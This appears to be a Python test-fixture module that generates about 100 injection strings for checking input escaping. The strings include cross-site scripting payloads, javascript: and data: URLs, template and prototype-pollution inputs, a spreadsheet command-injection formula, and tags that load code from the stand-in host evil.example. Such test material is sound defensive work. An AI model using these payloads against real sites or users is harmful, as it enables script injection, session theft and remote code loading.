"""A hundred texts that would run a script, load something or leave their place, if anything took them for more than text."""

RUN = "window.__ran=1"
TAGS = [
    "<script>{run}</script>", "<ScRiPt >{run}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={run}>", "<img src=x onerror='{run}'//",
    "<svg onload={run}>", "<svg/onload={run}//", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>", "<body onload={run}>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<object data=javascript:{run}></object>", "<embed src=javascript:{run}>",
    "<a href=javascript:{run}>click</a>", "<a href='data:text/html,<script>{run}</script>'>x</a>", "<form action=javascript:{run}><button>x</button></form>", "<button formaction=javascript:{run}>x</button>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>",
    "<marquee onstart={run}>", "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<base href=//evil.example/>", "<template><script>{run}</script></template>",
    "<div style=background:url(javascript:{run})>x</div>", "<div onpointerover={run} style=position:fixed;inset:0>x</div>", "<x onclick={run}>x", "<table background=javascript:{run}>", "<isindex type=image src=x onerror={run}>",
    "<custom-element contenteditable onblur={run}>x", "<dialog open onclose={run}>x</dialog>", "<p/onmouseover={run}>x",
]
BREAKS = ["\"'><img src=x onerror={run}>", "'-{run}-'", "\"-{run}-\"", "\" autofocus onfocus={run} x=\"", "' autofocus onfocus='{run}", "</textarea><script>{run}</script>", "</title><script>{run}</script>", "</style><script>{run}</script>", "</script><script>{run}</script>", "--><script>{run}</script>", "]]><script>{run}</script>", "\\\"-{run}//", "`-{run}-`"]
CODE = ["javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>", "${{{run}}}", "{{{{constructor.constructor('{run}')()}}}}", "#{{{run}}}", "<%= {run} %>", "[x](javascript:{run})", "![x](x\"onerror=\"{run})", "__proto__", "constructor", "toString", "%3Cscript%3E{run}%3C/script%3E", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "=cmd|' /C calc'!A0", "{{\"__html\":\"<img src=x onerror={run}>\"}}"]
ODD = ["\u202e<img src=x onerror={run}>", "\ufeff<script>{run}</script>", "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "<\u0130mg src=x onerror={run}>", "<img\u3000src=x onerror={run}>", "<scr<script>ipt>{run}</scr</script>ipt>", "<<script>{run}//<</script>"]


def texts(count=100):
    """Each within 128 characters and different from every other."""
    made = [text.format(run=RUN)[:128] for text in TAGS + BREAKS + CODE + ODD]
    made += [text.format(run=f"alert({at})")[:128] for at, text in enumerate(TAGS) if "{run}" in text]
    assert len(set(made)) == len(made) >= count, "each is another one"
    return made[:count]
